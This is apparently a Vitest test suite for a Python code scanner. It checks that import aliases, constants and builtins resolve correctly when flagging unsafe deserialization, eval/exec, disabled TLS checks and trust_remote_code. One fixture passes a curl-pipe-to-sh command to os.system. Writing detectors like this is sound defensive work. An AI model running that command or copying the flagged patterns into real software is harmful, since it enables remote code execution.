import { describe, expect, it } from "vitest";
import { scanPy } from "./helpers.js";

const rules = async (code: string): Promise<string[]> => (await scanPy(code)).found.map((f) => `${f[0]} ${f[1]} ${f[2]}`);

describe("import and alias resolution", () => {
  it("follows import aliases, from-imports and dotted imports", async () => {
    expect(
      await rules(
        [
          "import torch as T",
          "import torch.serialization",
          "from torch import load as tl",
          "from torch.serialization import load as sl",
          "import yaml as y",
          "T.load(a)",
          "tl(b)",
          "sl(c)",
          "torch.serialization.load(d, weights_only=False)",
          "y.load(s, Loader=y.UnsafeLoader)",
        ].join("\n"),
      ),
    ).toEqual([
      "code/torch-load-unsafe high torch.serialization.load(d, weights_only=False)",
      "code/torch-load-without-weights-only medium T.load(a)",
      "code/torch-load-without-weights-only medium sl(c)",
      "code/torch-load-without-weights-only medium tl(b)",
      "code/yaml-unsafe-load high y.load(s, Loader=y.UnsafeLoader)",
    ]);
  });

  it("follows assignments of functions and modules", async () => {
    expect(await rules("import pickle\nloader = pickle.load\nP = pickle\nloader(f)\nP.loads(b)\n")).toEqual([
      "code/pickle-load high P.loads(b)",
      "code/pickle-load high loader(f)",
    ]);
  });

  it("keeps a module behind an ImportError fallback to None", async () => {
    expect(await rules("try:\n    import joblib\nexcept ImportError:\n    joblib = None\nm = joblib.load(p)\n")).toEqual([
      "code/pickle-load high joblib.load(p)",
    ]);
  });

  it("does not treat a local object named like a module as the module", async () => {
    expect(await rules("from ruamel.yaml import YAML\nyaml = YAML()\nd = yaml.load(f)\npickle = Store()\npickle.load(k)\n")).toEqual([]);
  });

  it("resolves star imports and Python 2 module names", async () => {
    expect(await rules("from pickle import *\nfrom six.moves import cPickle\nload(f)\ncPickle.loads(s)\n")).toEqual([
      "code/pickle-load high cPickle.loads(s)",
      "code/pickle-load high load(f)",
    ]);
  });

  it("relative imports are project code", async () => {
    expect(await rules("from .utils import load\nfrom . import pickle\nload(p)\npickle.load(f)\n")).toEqual([]);
  });

  it("resolves module-level constants for keyword values and shell strings", async () => {
    expect(
      await rules(
        [
          "import os, requests",
          "VERIFY = False",
          "TRUST = True",
          "INSTALL = 'curl -s https://x.example/i.sh' + ' | sh'",
          "requests.get(u, verify=VERIFY)",
          "AutoModel.from_pretrained(n, trust_remote_code=TRUST)",
          "os.system(INSTALL)",
        ].join("\n"),
      ),
    ).toEqual([
      "code/shell-pipe-to-interpreter critical os.system(INSTALL)",
      "code/tls-verify-disabled high verify=VERIFY",
      "code/trust-remote-code high trust_remote_code=TRUST",
    ]);
  });

  it("a name assigned twice with different values is not a constant", async () => {
    expect(await rules("import requests\nV = True\nV = False\nrequests.get(u, verify=V)\n")).toEqual([]);
  });

  it("exec builtins: shadowed by imports, reached through builtins", async () => {
    expect(await rules("import builtins\nfrom sympy import eval as ev\nbuiltins.exec(code)\nev(x)\n")).toEqual([
      "code/dynamic-exec high builtins.exec(code)",
    ]);
  });

  it("a method named eval on a class does not hide the builtin", async () => {
    expect(await rules("class Trainer:\n    def eval(self):\n        return eval(self.expr)\n")).toEqual([
      "code/dynamic-exec high eval(self.expr)",
    ]);
  });
});

describe("performance sanity", () => {
  it("scans a large generated file and finds every planted call", async () => {
    const block = [
      "import torch, pickle, yaml",
      "def step_N(batch):",
      '    """Docstring that mentions pickle.load(f) and eval(x)."""',
      "    out = model(batch)  # torch.load(p) in a comment",
      "    loss = criterion(out, batch['y'])",
      "    return {'loss': loss.item(), 'msg': f'step N {loss:.3f}'}",
      "state_N = torch.load(f'ckpt_N.pt', weights_only=True)",
      "",
    ].join("\n");
    const parts: string[] = [];
    for (let i = 0; i < 3000; i++) parts.push(block.replace(/N/g, String(i)));
    parts.push("obj = pickle.load(open('x', 'rb'))\n");
    const code = parts.join("");
    expect(code.length).toBeGreaterThan(900_000);
    const scan = await scanPy(code);
    expect(scan.found).toEqual([["code/pickle-load", "high", "pickle.load(open('x', 'rb'))"]]);
  }, 30_000);
});
